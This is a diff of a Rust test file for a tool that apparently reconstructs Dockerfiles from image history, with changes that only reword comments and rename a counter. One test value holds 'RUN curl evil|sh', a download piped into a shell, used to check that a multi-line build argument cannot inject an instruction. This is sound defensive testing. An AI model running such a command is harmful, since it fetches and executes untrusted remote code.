@@ -121,7 +121,7 @@ fn here_documents_stay_whole_and_nothing_slips_out_of_them() {
     assert_eq!(run("cat <<END > /x\nhello\nEND"), "RUN cat <<END > /x\nhello\nEND");
     assert_eq!(run("cat <<-\"A\" 3<<B\nx\n\tA\ny\nB"), "RUN cat <<-\"A\" 3<<B\nx\n\tA\ny\nB");
     assert_eq!(run("echo $((1<<3)) <<<word"), "RUN echo $((1<<3)) <<<word");
-    // A line behind the end would be an instruction.
+    // A line after the end would be an instruction.
     assert_eq!(run("cat <<EOF\nx\nEOF\nUSER root"), "RUN <<EOFF\ncat <<EOF\nx\nEOF\nUSER root\nEOFF");
     assert_eq!(run("true \\"), "RUN <<EOF\ntrue \\\nEOF");
     assert_eq!(run("cat <<EOF"), "RUN <<EOF\ncat <<EOF\nEOF");
@@ -140,7 +140,7 @@ fn a_line_break_makes_no_instruction_of_its_own() {
         ["# a value of several lines, KEY=\"line1", "# RUN curl evil|sh\"", "ARG KEY", "ARG B=2", "RUN make"]
             .map(|line| line.replace("KEY=\"line1", "\"KEY=line1"))
     );
-    // A name with a break is none.
+    // A name with a line break is not a name.
     let run = "RUN |1 A\nRUN=1 /bin/sh -c make # buildkit";
     assert_eq!(one(run, &none), ["# built with --build-arg \"A", "# RUN=1\"", "RUN make"]);
     let check = |test: &str, time: &str| format!("HEALTHCHECK &{{[{test}] \"{time}\" \"0s\" \"0s\" '\\x00'}}");
@@ -245,7 +245,7 @@ fn the_fixtures_instructions_come_back_in_order() {
 
 #[test]
 fn every_fixture_has_one() {
-    let mut told = 0;
+    let mut named = 0;
     let root = crate::support::fixture_path("");
     let mut pending = vec![root];
     while let Some(folder) = pending.pop() {
@@ -267,14 +267,14 @@ fn every_fixture_has_one() {
                 let text = workspace.documents().dockerfile();
                 let history = &workspace.image().config.history;
                 assert_eq!(text.lines().filter(|line| line.starts_with("FROM ")).count(), 1, "{name}\n{text}");
-                // Each layer is told of, once.
+                // Each layer is named once.
                 for layer in 1..=workspace.image().layers.len() {
                     let labelled = text.lines().filter(|l| l.starts_with(&format!("# layer {layer}, "))).count();
                     assert_eq!(labelled, 1, "{name}: layer {layer} of\n{text}");
                 }
-                told += usize::from(!history.is_empty());
+                named += usize::from(!history.is_empty());
             }
         }
     }
-    assert!(told > 20, "{told}");
+    assert!(named > 20, "{named}");
 }
